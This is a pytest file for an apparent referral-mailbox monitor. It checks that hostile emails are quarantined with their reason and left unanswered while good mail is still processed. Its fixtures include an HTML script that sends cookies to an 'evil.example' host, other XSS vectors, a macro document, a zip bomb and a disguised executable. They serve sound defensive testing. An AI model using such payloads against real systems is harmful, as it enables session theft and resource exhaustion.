"""Hostile mail through the real monitor: each message is kept with its reason, none is
acted on, none is answered, and the monitor carries on with the good mail beside them."""

from __future__ import annotations

from email.message import EmailMessage

from sqlmodel import select

from panelclerk import services
from panelclerk.intake.maildir import MaildirMailbox
from panelclerk.intake.monitor import Router, quarantined
from panelclerk.store.tables import OutboundMessage

from .conftest import COMPLETE_FORM
from .mail import REFERRER, message, referral, zip_bytes


def _with(name: str, data: bytes, maintype="application", subtype="octet-stream") -> bytes:
    msg = message(subject="SCR referral", body="see attached")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def hostile() -> dict[str, tuple[bytes, str]]:
    xss = message(
        subject="SCR referral",
        body="x",
        html=(
            '<p onmouseover="steal()">Hi</p><script>fetch("https://evil.example/"+document.cookie)'
            '</script><img src="x" onerror="alert(1)"><a href="javascript:alert(2)">x</a>'
        ),
    )
    nested = "From: " + REFERRER + "\r\n"
    for depth in range(60):
        nested += f'Content-Type: multipart/mixed; boundary="b{depth}"\r\n\r\n--b{depth}\r\n'
    nested += "Content-Type: text/plain\r\n\r\nbottom"
    many_headers = (
        "From: "
        + REFERRER
        + "\r\n"
        + "X-Noise: x\r\n" * 10_000
        + "Subject: SCR referral\r\n\r\nbody"
    ).encode()
    docm = zip_bytes({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"AutoOpen"})
    return {
        "xss": (xss.as_bytes(), "HTML with active content"),
        "docm": (_with("form.docm", docm), "macro-enabled Office files"),
        "docx_macro": (_with("form.docx", docm), "contains macros"),
        "zip_bomb": (_with("papers.zip", zip_bytes({"z.txt": b"\0" * 20_000_000})), "archive bomb"),
        "huge": (_with("scan.pdf", b"%PDF" + b"0" * (30 * 1024 * 1024)), "byte limit"),
        "headers": (many_headers, "header fields"),
        "nested": (nested.encode(), "nested deeper"),
        "exe": (_with("form.pdf.exe", b"MZ\x90\x00" + b"\0" * 100), "executable"),
    }


def test_hostile_mail_is_kept_with_its_reason_and_the_good_mail_goes_on(sqlite_app, tmp_path):
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    corpus = hostile()
    for raw, _ in corpus.values():
        box.deliver(raw)
    box.deliver(referral())
    results = Router(sqlite_app).run_once(box)
    assert len(results) == len(corpus) + 1
    assert [r.outcome for r in results].count("accepted") == 1
    reasons = [r.reason or "" for r in quarantined(sqlite_app)]
    assert len(reasons) == len(corpus)
    for name, (_, expected) in corpus.items():
        assert any(expected in reason for reason in reasons), (name, reasons)
    assert box.list_new() == []
    assert len(list((box.root / ".Quarantine" / "cur").iterdir())) == len(corpus)
    with sqlite_app.uow() as uow:  # only the good referral is answered
        sent = uow.session.exec(select(OutboundMessage)).all()
    assert [m.kind for m in sent] == ["acknowledgement"]
    assert len(services.pipeline(sqlite_app)) == 1


def test_plain_html_from_an_agency_is_read_not_quarantined(sqlite_app, tmp_path):
    msg = EmailMessage()
    msg["From"] = REFERRER
    msg["Subject"] = "SCR referral"
    msg.set_content(
        "<html><body><table><tr><td>Child's name</td><td>Jo</td></tr></table>"
        "<p style='color:red'>Please see below.</p></body></html>",
        subtype="html",
    )
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    box.deliver(msg.as_bytes())
    [result] = Router(sqlite_app).run_once(box)
    assert result.outcome in ("incomplete", "accepted", "held")


def test_a_document_that_takes_too_long_to_read_is_quarantined_and_the_loop_goes_on(
    sqlite_app, tmp_path
):
    """The wall-clock budget per message: the document parsers run in a child process that
    is killed when a message's documents take longer than mailbox.read_seconds. Here the
    budget is set below what any PDF takes, so the referral's PDF form is never read in
    time: it is quarantined with the reason; with the usual budget the same form is read."""
    from .test_formparse import fillable_pdf

    def with_pdf() -> bytes:
        msg = message(subject="SCR referral", body="Please see the attached form.")
        pdf = fillable_pdf(dict(COMPLETE_FORM))
        msg.add_attachment(pdf, maintype="application", subtype="pdf", filename="form.pdf")
        return msg.as_bytes()

    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    hurried = sqlite_app.config.mailbox.model_copy(update={"read_seconds": 0.001})
    sqlite_app.config = sqlite_app.config.model_copy(update={"mailbox": hurried})
    box.deliver(with_pdf())
    [slow] = Router(sqlite_app).run_once(box)
    assert slow.outcome == "quarantined"
    assert "reading form.pdf took longer than 0.001 s; kept unread" in slow.detail
    usual = sqlite_app.config.mailbox.model_copy(update={"read_seconds": 20.0})
    sqlite_app.config = sqlite_app.config.model_copy(update={"mailbox": usual})
    box.deliver(with_pdf())
    [read] = Router(sqlite_app).run_once(box)
    assert (read.kind, read.outcome) == ("referral", "accepted"), read.detail
    with sqlite_app.uow() as uow:
        row = uow.referrals.row(read.reference, lock=False)
    assert row.form["incident.date"] == COMPLETE_FORM["incident.date"]
